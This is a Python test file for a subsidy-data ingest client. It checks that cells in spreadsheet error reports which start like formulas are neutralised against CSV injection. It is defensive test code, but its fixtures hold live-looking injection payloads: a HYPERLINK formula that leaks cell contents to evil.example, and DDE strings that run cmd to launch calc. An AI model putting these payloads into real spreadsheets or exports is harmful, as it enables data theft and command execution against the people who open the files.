"""`<file>.errors.csv` opens in a spreadsheet as text."""

# Cells that start like a formula (OWASP's CSV injection) get a leading single quote, and still show
# the bad value after it.

import csv
from pathlib import Path

import pytest

from subsidy.infra.grpc_tls import ClientTls
from subsidy.infra.spreadsheet_cells import FORMULA_STARTS, neutralise
from subsidy.ingest.client import REPORT_COLUMNS, ReportLine, ingest_file, write_report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_quoted_and_kept_whole(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["苏州机器人", "a=b", " =1", "'=1", "", "1-2", 7, -7, None])
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert neutralise(value) == value


def test_the_rule_is_owasps() -> None:
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_every_cell_of_the_report_is_neutralised(tmp_path: Path) -> None:
    report = tmp_path / "feed.jsonl.errors.csv"
    lines = [ReportLine(i + 2, value, value, value) for i, value in enumerate(FORMULAS)]
    lines.append(ReportLine(99, "ev-1", "district", "unknown district 'MARS'"))

    write_report(report, lines)

    header, *rows = _read(report)
    assert header == list(REPORT_COLUMNS)
    for row, value in zip(rows, FORMULAS, strict=False):
        assert row[1:] == ["'" + value] * 3
    assert rows[-1] == ["99", "ev-1", "district", "unknown district 'MARS'"]


def test_a_feed_with_a_formula_for_a_column_name_reports_it_quoted(tmp_path: Path) -> None:
    """The whole path of `subsidy ingest`: the header is refused before anything is sent."""
    formula = '=HYPERLINK("http://evil.example","统一社会信用代码")'
    feed = tmp_path / "feed.csv"
    with feed.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerow(["统一社会信用代码", formula])

    summary = ingest_file(feed, server="127.0.0.1:9", token="unused", transport=ClientTls())

    assert summary.file_error is not None
    assert summary.report == tmp_path / "feed.csv.errors.csv"
    [_header, row] = _read(summary.report)
    assert row[2] == "'" + formula
    assert formula in row[3]  # the message names the column as it was written
